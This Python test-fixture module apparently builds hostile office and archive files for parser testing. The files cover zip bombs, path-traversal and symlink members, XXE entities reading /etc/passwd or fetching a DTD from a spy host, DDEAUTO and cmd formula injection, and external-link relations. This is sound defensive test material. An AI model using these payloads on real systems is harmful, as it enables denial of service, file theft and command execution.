"""Hostile archives: DOCX, XLSX and bare ZIP files that claim, unfold or point to what they should not."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from xml.sax.saxutils import escape

from tests.corpus.hostile.case import ARTICLE, SPY

MB = 1024**2
_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "application/vnd.openxmlformats-officedocument"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"

Parts = Mapping[str, bytes | str]


def zipped(parts: Parts) -> bytes:
    """A ZIP file of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def relations(*targets: tuple[str, str], external: bool = False) -> str:
    """A relationships part: (kind, target) each, named rId1, rId2, …"""
    mode = ' TargetMode="External"' if external else ""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target) in enumerate(targets, 1)
    )
    return _HEAD.decode() + f"<Relationships {_RELS}>{rows}</Relationships>"


def types(main: str, kind: str) -> str:
    """The part [Content_Types].xml with one main part."""
    return (
        _HEAD.decode() + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )


def word_parts(body: str, doctype: str = "", macro: bool = False) -> dict[str, bytes | str]:
    """The parts of a DOCX with this XML in its body."""
    kind = _MACRO if macro else f"{_TYPES}.wordprocessingml.document.main+xml"
    return {
        "[Content_Types].xml": types("word/document.xml", kind),
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": _HEAD.decode() + doctype + f"<w:document {_W} {_R}><w:body>{body}</w:body></w:document>",
    }


def paragraphs(lines: tuple[str, ...] = ARTICLE) -> str:
    return "".join(f"<w:p><w:r><w:t>{escape(line)}</w:t></w:r></w:p>" for line in lines)


def docx(body: str = "", doctype: str = "", more: Parts | None = None) -> bytes:
    """A DOCX with the article, then `body`."""
    return zipped(word_parts(paragraphs() + body, doctype) | dict(more or {}))


def sheet_parts(rows: str, before: str = "", after: str = "", doctype: str = "") -> dict[str, bytes | str]:
    """The parts of an XLSX with one sheet of these rows."""
    return {
        "[Content_Types].xml": types("xl/workbook.xml", f"{_TYPES}.spreadsheetml.sheet.main+xml").replace(
            "</Types>",
            '<Override PartName="/xl/worksheets/sheet1.xml"'
            f' ContentType="{_TYPES}.spreadsheetml.worksheet+xml"/></Types>',
        ),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": _HEAD.decode()
        + f'<workbook {_S} {_R}><sheets><sheet name="Biểu 1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": _HEAD.decode()
        + doctype
        + f"<worksheet {_S}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>",
    }


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def article_rows() -> str:
    return "".join(f'<row r="{n}">{cell(f"A{n}", line)}</row>' for n, line in enumerate(ARTICLE, 1))


def xlsx(rows: str = "", before: str = "", after: str = "", doctype: str = "", more: Parts | None = None) -> bytes:
    """An XLSX with the article in its first rows, then `rows`."""
    return zipped(sheet_parts(article_rows() + rows, before, after, doctype) | dict(more or {}))


# ZIP files that no honest program writes


@dataclass(frozen=True)
class Member:
    """A member as it is laid down: what its headers say need not be so."""

    name: str
    packed: bytes
    size: int
    crc: int
    flags: int = 0
    method: int = zipfile.ZIP_DEFLATED


def member(name: str, content: bytes) -> Member:
    """An honest member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, packer.compress(content) + packer.flush(), len(content), zlib.crc32(content))


def run_of(name: str, block: bytes, times: int, head: bytes = b"") -> Member:
    """A member of `head` and `times` blocks, packed without unfolding it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return Member(name, start + one * times + b"\x03\x00", len(head) + len(block) * times, crc)


def laid(members: list[Member], overlapping: bool = False) -> bytes:
    """The members as a ZIP file; when overlapping, all names but the first share the last one's bytes."""
    local, central = bytearray(), bytearray()
    start = 0
    for n, one in enumerate(members):
        name = one.name.encode()
        head = struct.pack(
            "<HHHHHLLLHH", 20, one.flags, one.method, 0, 33, one.crc, len(one.packed), one.size, len(name), 0
        )
        if not overlapping or n < 2:
            start = len(local)
            local += b"PK\3\4" + head + name + one.packed
        central += b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHLL", 0, 0, 0, 0, start) + name
    count = min(len(members), 0xFFFF)
    end = struct.pack("<HHHHLLH", 0, 0, count, count, len(central), len(local), 0)
    return bytes(local + central + b"PK\5\6" + end)


def members(parts: Parts) -> list[Member]:
    return [member(name, part.encode() if isinstance(part, str) else part) for name, part in parts.items()]


def unfolding(parts: Parts, inside: str, filler: bytes, size: int) -> bytes:
    """An archive whose part `inside` goes on, after what it holds, with `size` bytes of filler."""
    others = members({name: part for name, part in parts.items() if name != inside})
    held = parts[inside]
    head = held.encode() if isinstance(held, str) else held
    return laid([*others, run_of(inside, filler * (MB // len(filler)), size // MB, head)])


def lying_size() -> bytes:
    """A document of 500 MB whose headers say 100 bytes."""
    parts = word_parts(paragraphs())
    big = run_of("word/document.xml", b" " * MB, 500, str(parts.pop("word/document.xml")).encode())
    return laid([*members(parts), Member(big.name, big.packed, 100, big.crc)])


def overlapping() -> bytes:
    """A thousand images that are one and the same 100 MB (after Fifield, "A better zip bomb", 2019), no document."""
    image = run_of("word/media/0.bin", bytes(MB), 100)
    return laid(
        [
            member("[Content_Types].xml", b"<Types/>"),
            *(Member(f"word/media/{n}.bin", *_rest(image)) for n in range(1000)),
        ],
        True,
    )


def _rest(one: Member) -> tuple[bytes, int, int]:
    return one.packed, one.size, one.crc


def with_password() -> bytes:
    """A DOCX whose members are marked as encrypted, as 7-Zip does."""
    locked = [
        Member(m.name, random.Random(1).randbytes(12) + m.packed, m.size, m.crc, 1)
        for m in members(word_parts(paragraphs()))
    ]
    return laid(locked)


def nested_archives(depth: int = 6) -> bytes:
    """An archive of ten archives of ten archives …"""
    content = zipped({"0.txt": bytes(10 * MB)})
    for _ in range(depth):
        content = zipped({f"{n}.zip": content for n in range(10)})
    return content


def climbing_names() -> bytes:
    """A DOCX with the article, and members that want to be written elsewhere."""
    names = [
        "../../../../tmp/evil.txt",
        "/tmp/evil.txt",
        "C:\\evil.txt",
        "..\\..\\evil.txt",
        "word/../../evil.txt",
        "evil\0.txt",
    ]
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), "evil")
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def twice_the_document() -> bytes:
    """Two members of one name, the second with a paragraph more."""
    parts = word_parts(paragraphs())
    other = word_parts(paragraphs((*ARTICLE, "Phần ẩn.")))["word/document.xml"]
    return laid([*members(parts), *members({"word/document.xml": other})])


# XML inside

LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
QUADRATIC = f"<!DOCTYPE q [<!ENTITY a '{'x' * 200_000}'>]>"
EXTERNAL = "<!DOCTYPE x [<!ENTITY secret SYSTEM 'file:///etc/passwd'>]>"
PARAMETER = f"<!DOCTYPE x [<!ENTITY % far SYSTEM '{SPY}.dtd'> %far;]>"
FAR_DTD = f"<!DOCTYPE x SYSTEM '{SPY}.dtd'>"


def says(text: str) -> str:
    """A paragraph with this XML as its text."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def said_in_cell(text: str) -> str:
    return f'<row r="9"><c r="A9" t="inlineStr"><is><t>{text}</t></is></c></row>'


def nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def wide_table(rows: int, columns: int) -> str:
    return (
        f"<w:tbl>{('<w:tr>' + '<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>' * columns + '</w:tr>') * rows}</w:tbl>"
    )


def pointing_outside() -> bytes:
    """Relations to the network and the disk: a template, an image, a link, an embedded page; and fields that fetch."""
    targets = [
        ("attachedTemplate", f"{SPY}.dotm"),
        ("image", "file:///etc/passwd"),
        ("hyperlink", "file:///etc/passwd"),
        ("aFChunk", f"{SPY}.html"),
    ]
    fields = "".join(
        f'<w:p><w:fldSimple w:instr="{escape(code)}"><w:r><w:t>.</w:t></w:r></w:fldSimple></w:p>'
        for code in (
            "INCLUDETEXT file:///etc/passwd",
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k",
            f"INCLUDEPICTURE {SPY}.png",
        )
    )
    body = fields + '<w:altChunk r:id="rId4"/><w:p><w:hyperlink r:id="rId3"><w:r><w:t>.</w:t></w:r></w:hyperlink></w:p>'
    return docx(body, more={"word/_rels/document.xml.rels": relations(*targets, external=True)})


def formulas() -> bytes:
    """Cells that would fetch, run and export when calculated."""
    codes = [
        f'WEBSERVICE("{SPY}")',
        "cmd|'/c calc'!A0",
        f'HYPERLINK("{SPY}","bấm")',
        "A9",
        "'file:///etc/[passwd]a'!A1",
    ]
    cells = "".join(f'<c r="A{n}"><f>{escape(code)}</f><v>0</v></c>' for n, code in enumerate(codes, 9))
    links = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
            ("externalLinkPath", "file:///etc/passwd"), external=True
        )
    }
    return xlsx(f'<row r="9">{cells}</row>', more=links)


def many_sheets(count: int) -> bytes:
    parts = sheet_parts(article_rows())
    sheets = "".join(f'<sheet name="B{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2, count))
    parts["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace("</sheets>", sheets + "</sheets>")
    return zipped(parts)


def shared_strings_out_of_range() -> bytes:
    wrong = "".join(
        f'<c r="{column}9" t="s"><v>{n}</v></c>' for column, n in zip("ABC", ("999999999", "-1", "1e9"), strict=True)
    )
    return xlsx(f'<row r="9">{wrong}</row>')


# Files of Microsoft's older container


COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def compound(streams: Mapping[str, bytes], loop: bool = False) -> bytes:
    """An OLE2 compound file of these streams (4096 bytes each); with `loop`, its directory goes on in itself."""
    size, free, end = 512, 0xFFFFFFFF, 0xFFFFFFFE
    chains = [[0xFFFFFFFD], [1 if loop else end]]
    entries = [_entry("Root Entry", 5, end, 0, child=1)]
    sectors = []
    for n, (name, content) in enumerate(streams.items(), 1):
        first = 2 + 8 * len(sectors)
        chains.append([*range(first + 1, first + 8), end])
        sectors.append(content[: 8 * size].ljust(8 * size, b"\0"))
        entries.append(_entry(name, 2, first, 8 * size, right=n + 1 if n < len(streams) else free))
    fat = [link for chain in chains for link in chain]
    header = COMPOUND + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += bytes(6) + struct.pack("<9L", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109L", 0, *[free] * 108)
    table = struct.pack("<128L", *fat, *[free] * (128 - len(fat)))
    return header + table + b"".join(entries).ljust(size, b"\0") + b"".join(sectors)


def _entry(name: str, kind: int, first: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    tree = struct.pack("<HBBLLL", len(encoded), kind, 1, 0xFFFFFFFF, right, child)
    return encoded.ljust(64, b"\0") + tree + bytes(36) + struct.pack("<LQ", first, size)


def encrypted_office() -> bytes:
    """What Word and Excel write for a file with a password: the package encrypted inside a compound file."""
    noise = random.Random(2).randbytes(4096)
    return compound({"EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>", "EncryptedPackage": noise})
